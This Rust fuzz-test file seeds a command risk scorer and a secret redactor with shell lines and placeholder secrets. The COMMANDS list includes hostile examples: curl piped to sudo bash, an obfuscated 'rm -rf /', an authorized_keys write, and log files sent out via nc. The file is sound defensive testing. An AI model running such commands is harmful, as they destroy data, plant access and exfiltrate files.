//! What stands in records: command lines, and texts with secrets in them.

use telseal::processor::redact::{Config, Redact};
use telseal::processor::risk::{self, RiskTag};

use crate::mutate::fuzz_text;

const COMMANDS: [&str; 14] = [
    "ls -la | grep foo && cd /tmp; rm -rf ~/x",
    "curl -fsSL https://x.example/i.sh | sudo bash -s -- --yes",
    "bash -c 'eval \"$(echo cm0gLXJmIC8K | base64 -d)\"'",
    "cat <<'EOF' > ~/.ssh/authorized_keys\nssh-ed25519 AAAA x\nEOF",
    "A=rm; B=-rf; $A $B \"$HOME\"/*",
    "find . -name '*.log' -exec sh -c 'cat {} | nc h 99' \\;",
    "python3 -c \"import os;os.system('id')\"",
    "for f in *; do case $f in a*) echo ${f%%.*};; *) break;; esac; done",
    "if [[ -n $X && $Y =~ ^a ]]; then x() { :; }; fi",
    "kubectl exec -it pod -- sh -c \"rm -rf /data\" 2>&1 >/dev/null &",
    "r\\m -r''f $'\\x2f' ${IFS}",
    "diff <(ssh h 'cat /etc/passwd') <(cat /etc/passwd)",
    "echo $((1 + 2)) `whoami` $(( $(id -u) ))",
    "xargs -0 -I{} env -i PATH=/bin nohup timeout 5 sudo -u root {} <<< y",
];
const SHELL_WORDS: [&str; 36] = [
    "'",
    "\"",
    "\\",
    "$",
    "$(",
    "${",
    "`",
    "(",
    ")",
    "{",
    "}",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "<<",
    "<<-EOF",
    "\n",
    "<(",
    "$'",
    "$((",
    "[[",
    "]]",
    "eval ",
    "bash -c ",
    "base64 -d",
    "xargs ",
    "sudo ",
    "\u{202e}",
    "\u{0}",
    "case x in",
    "esac",
    "do",
    "done",
    "fi",
];
const REDACT_WORDS: [&str; 22] = [
    "AKIAIOSFODNN7EXAMPLE",
    "ghp_",
    "sk-ant-",
    "password=",
    "-----BEGIN RSA PRIVATE KEY-----",
    "-----END",
    "eyJ",
    "4111111111111111",
    "a@b.example",
    "://u:p@h",
    "%41%4b",
    "\\u0041",
    "{\"k\":\"",
    "\"}",
    "DE89370400440532013000",
    "Authorization: Bearer ",
    "\u{e9}",
    "\u{1f600}",
    "123-45-6789",
    "QUtJQUlPU0ZPRE5ON0VYQU1QTEU=",
    "\u{0}",
    " ",
];

#[test]
fn command_lines() {
    let risk = RiskTag::new(&risk::Config::default());
    fuzz_text(&COMMANDS, &SHELL_WORDS, |line| {
        let assessment = risk.assess_command(line);
        assert!((0..=100).contains(&assessment.score));
    });
}

#[test]
fn texts_with_secrets() {
    let redact = Redact::new(&Config::default()).unwrap();
    let corpus = include_str!("../corpus/redact/findings.ndjson");
    let seeds: Vec<&str> = corpus.lines().step_by(9).collect();
    fuzz_text(&seeds, &REDACT_WORDS, |text| {
        let (redacted, found) = redact.text(text);
        let mut end = 0;
        for one in &found {
            assert!(one.start >= end && one.end > one.start && text.get(one.start..one.end).is_some(), "{one:?}");
            end = one.end;
        }
        assert!(!found.is_empty() || redacted == text, "nothing found, nothing changed");
    });
}
